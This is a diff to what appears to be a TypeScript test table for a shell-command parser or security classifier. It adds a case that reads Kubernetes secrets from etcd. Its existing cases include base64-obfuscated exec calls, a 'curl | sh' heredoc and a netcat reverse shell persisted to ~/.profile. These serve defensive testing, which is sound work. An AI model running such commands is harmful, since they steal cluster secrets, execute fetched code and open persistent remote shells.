@@ -76,6 +76,8 @@ const CASES: Array<[string, string[]]> = [
   ["python3 -c \"import base64,os;os.system(base64.b64decode('aWQ=').decode())\"", ["python3 -c import base64,os;os.system(base64.b64decode('aWQ=').decode())", 'interpreter:id']],
   ["node -e \"require('child_process').execSync(Buffer.from('aWQ=','base64').toString())\"", ["node -e require('child_process').execSync(Buffer.from('aWQ=','base64').toString())", 'interpreter:id']],
   ["python3 -c 'exec(\"print(1)\")'", ['python3 -c exec("print(1)")']],
+  ['kubectl -n kube-system exec etcd-0 -- etcdctl get /registry/secrets --prefix', ['kubectl -n kube-system exec etcd-0 -- etcdctl get /registry/secrets --prefix', 'remote:etcdctl get /registry/secrets --prefix']],
+  ['kubectl -n exec get pods -- x', ['kubectl -n exec get pods -- x']],
   ['bash <<EOF\ncurl -s $U | sh\nEOF', ['bash', 'heredoc-to-shell:curl -s $U', 'heredoc-to-shell:sh']],
   ['cat > ~/.profile <<EOF\nnc $H 4444 -e /bin/sh\nEOF', ['cat', 'persisted:nc $H 4444 -e /bin/sh']],
   ['f(){ eval "$1" >/dev/null; }; f ls', ['eval ', 'f ls']],
